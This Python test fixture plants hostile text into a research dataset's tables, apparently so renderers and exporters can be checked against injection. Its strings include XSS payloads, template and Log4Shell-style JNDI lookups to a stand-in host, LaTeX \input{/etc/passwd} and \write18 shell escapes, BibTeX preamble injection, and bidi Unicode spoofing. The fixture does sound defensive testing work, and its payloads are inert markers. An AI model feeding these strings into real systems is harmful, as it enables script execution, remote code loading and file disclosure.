"""A data set that hurts: the worked case of three states with names, claims and addresses that other media take for commands."""

import shutil
from itertools import cycle
from pathlib import Path

import pandas as pd
from drawing import RAW, TINY

from analysis.collect import files, store
from analysis.model.dictionary import collected, schemas, vocabulary

TEXTS = (
    "Ada <img src=x onerror=window.__ran=1>",
    "Ben </script></style></title></textarea>--><script>window.__ran=2</script>",
    "Cy {{7*7}} {% raw %} ${jndi:ldap://x.example/a} <%= 7*7 %>",
    r"Di \input{/etc/passwd}\immediate\write18{touch ran} \csname end\endcsname ^^5cinput",
    r"Ed $\frac{a$ and $x_1$ and \(y\) and \begin{z}",
    "Flo US$5m to US$9m",
    'Gus ]]> "><svg onload=window.__ran=3> &lt;b&gt; &#60;i&#62;',
    "Hal [a](javascript:window.__ran=4) ![i](http://evil.example/1.png) <javascript:window.__ran=5> [b]: javascript:1",
    "Ida `</code>` | # _x_ **y** ~~z~~ ~w~ --- '' ``",
    "Jo \u202egnp.exe \u2066a\u2069 \u200bzero\u00adsoft",
    "Kim 北京 東京タワー 서울",
    "Lea \u05d0\u05d1\u05d2 العربية فارسی",
    "Max हिन्दी ไทย ქართული Ἑλλάς Հայ Україна",
    "Ned 👍🏽 👩\u200d⚖️ e\u0301 q\u0301 ẓ́ ½ № ≠",
    'Ola }}@preamble{"\\input{/etc/hostname}"}@misc{evil,note={x %# ~&_',
    "Pia \u0600 \U0001f1f0\U0001f1ff ﷽ 𝔘 ﬁ \uffff",
)
LISTED = [text.replace(";", ",") for text in TEXTS]
"""The same as names that lists can hold."""
ADDRESS = 'https://x.example/a}}@preamble{"\\input{/etc/hostname}\\immediate\\write18{touch%20ran}"}@misc{evil,note={x?q=<script>&é=$1^^5c#'

ON = {"case_id": "tiny", "state": "XA"}
REQUESTS = {"case_id": "tiny", "state": ["XB", "XC"]}
NUMBERS = range(len(TEXTS))
BESIDE = {
    "adjudication": {**ON, "fact_id": "tiny-f09", "proposition": "surrender_to_XC", "stance_final": "1", "decided_by": "rule"},
    "codebook/aliases": {"kind": "person", "case_id": "tiny"},
    "codebook/selection": {"included": "no", "rival_request": "unclear"},
    "digest/document": {"document_id": "digest", "url": ADDRESS, "language": "en"},
    "digest/claims": {
        "claim_id": [f"c{number}" for number in NUMBERS], "clause": [str(number) for number in NUMBERS], "paragraph": "0",
        "sentence": "1", "char_start": [str(9 * number) for number in NUMBERS], "char_end": [str(9 * number + 5) for number in NUMBERS],
        "span_sha256": "0" * 64, "citation_marks": "[1]", "kind": "fact", "verdict": "corroborated", "fact_ids": "tiny-f01",
    },
    "digest/references": {"ref": "1", "status": "probable", "best_match_source_id": "wire-0225", "confidence": "0.5"},
    "digest/entities": {"count": ["1" for _ in NUMBERS], "kind": "person"},
    "law/instruments": {
        "instrument_id": "pact", "kind": "bilateral", "competing_requests_criteria": "gravity;other", "nationals": "may_refuse",
        "dual_criminality": "required", "source_ids": "act",
    },
    "law/law": {**REQUESTS, "instrument_id": "pact", "basis": "bilateral"},
    "law/deciders": {"requested_state": "XA", "final_decider": "justice_ministry", "appeal": "court", "source_ids": "act"},
    "law/timing": {**REQUESTS, "charge_or_warrant_on": "2021", "fact_ids": "tiny-f01", "against_detention": "unknown"},
    "law/grounds": {**ON, "fact_id": "tiny-f08", "grounds": "other", "voice": "own"},
    "law/sources": {"source_id": "act", "url": ADDRESS, "archived": f"https://copies.example/{ADDRESS}", "kind": "statute", "what_was_read": "excerpt"},
}  # fmt: skip
"""Of tables beside the case what stands in cells that hold no free text."""
CODEBOOK = store.read_codebook()
DESCRIBED = (*collected.STUDY_TABLES, *vocabulary.CODEBOOK_TABLES)
STATES_OR_WORDS = set(CODEBOOK.tables["case_columns"].set_index("column").query("words != ''").index)
"""Columns of a case in which a state stands, or a word for none."""


def is_free(column: schemas.Column) -> bool:
    """Whether a column holds any text, whatever else stands in its row."""
    is_told = column.values or column.vocabulary or column.refers_to or column.pattern
    return not (is_told or column.is_list or column.is_date or column.name in ("reported_by", *STATES_OR_WORDS))


def make(folder: Path) -> Path:
    """Leave the data set in a folder; it passes the check, and each text that is free by the dictionary hurts."""
    shutil.copytree(TINY, folder)
    files.write_bytes(folder / "LIMITS.md", "\n\n".join(["# Limits", *TEXTS]).encode())
    for name, cells in BESIDE.items():
        n_rows = max(len(cell) if isinstance(cell, list) else 1 for cell in cells.values())
        described = next(table for table in DESCRIBED if table.name == name)
        rows = pd.DataFrame(cells, index=range(n_rows)).reindex(columns=described.names, fill_value="")
        files.write_bytes(folder / f"{name}.csv", store.csv_bytes(rows))
    tables = [(f"cases/tiny/{table.name}.csv", table) for table in CODEBOOK.case_tables]
    texts = cycle(TEXTS)
    for path, table in [*tables, *((f"{table.name}.csv", table) for table in DESCRIBED)]:
        if (folder / path).is_file():
            rows = store.read_table(folder / path)
            for column in (column.name for column in table.columns if column.name in rows and is_free(column)):
                rows[column] = [f"{next(texts)} {place}" for place in range(len(rows))]
            _other_names(table.name, rows)
            files.write_bytes(folder / path, store.csv_bytes(rows))
    informants = store.read_table(RAW / "codebook" / "informants.csv")
    yes_no = {"has_access": "yes", "is_text": "no"}
    more = pd.DataFrame({"informant": LISTED, "informant_state": "varies", "definition": TEXTS, **yes_no})
    more = pd.concat([informants, more.reindex(columns=informants.columns, fill_value="")])
    files.write_bytes(folder / "codebook" / "informants.csv", store.csv_bytes(more))
    return folder


def _other_names(table: str, rows: pd.DataFrame) -> None:
    """Put what hurts where a table asks for an address, a name of the codebook, or a name in some rows only."""
    if table == "sources":
        rows["url"] = [f"{ADDRESS}{place}" for place in rows.index]
        rows["archived"] = "https://copies.example/" + rows["url"]
    if table == "statements":
        rows["reported_by"] = rows["reported_by"].where(rows["basis"] != "reported", TEXTS[6])
    if table == "facts":
        rows["informant"] = [LISTED[place % len(TEXTS)] for place in rows.index]
    if table == "codebook/states":
        rows["name"] = [f"{TEXTS[place]} {TEXTS[place + 3]}" for place in rows.index]
